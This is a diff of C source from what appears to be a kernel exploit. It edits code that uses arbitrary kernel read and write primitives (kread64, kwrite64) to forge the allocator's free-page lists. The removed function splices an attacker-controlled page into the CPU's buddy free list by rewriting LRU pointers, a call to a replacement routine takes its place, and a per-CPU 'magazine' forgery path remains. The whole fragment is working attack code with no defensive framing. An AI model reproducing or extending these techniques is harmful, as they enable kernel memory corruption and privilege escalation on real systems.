@@ -12,10 +12,8 @@
 
 #include "attack.h"
 #include "list.h"
+#include "objects.h"
 
-/* struct page: flags, lru.next, lru.prev, ..., _refcount */
-#define PAGE_LRU	8
-#define PAGE_REFCOUNT	52
 #define TRIES		16
 #define POOL_PART	0x52
 
@@ -31,27 +29,6 @@ static bool page_alloc(struct page *page)
 	page->addr = corrupt_answer("address");
 	page->page = corrupt_answer("page");
 	return true;
-}
-
-/*
- * Free a page, so that it heads this CPU's list of free pages, and put ours
- * in its place.
- */
-static int forge_buddy_list(const struct page *ours)
-{
-	uint64_t lru = ours->page + PAGE_LRU;
-	uint64_t next, prev;
-	struct page freed;
-	int err;
-
-	if (!page_alloc(&freed) || corrupt_command("free count=1"))
-		return -ENOMEM;
-	next = kread64(freed.page + PAGE_LRU);
-	prev = kread64(freed.page + PAGE_LRU + 8);
-	err = kwrite64(lru, next);
-	err = err ?: kwrite64(lru + 8, prev);
-	err = err ?: kwrite64(next + 8, lru);
-	return err ?: kwrite64(prev, lru);
 }
 
 /* Words of this CPU's state that are addresses of whole pages: the magazine. */
@@ -151,7 +128,7 @@ enum outcome pool_free_list(void)
 	if (on)
 		err = forge_magazine(state, ours.addr, words);
 	else
-		err = forge_buddy_list(&ours);
+		err = put_on_free_list(ours.page, 0);
 	outcome = use_page(base, &ours, err);
 	if (on)
 		restore_magazine(state, ours.addr, words);
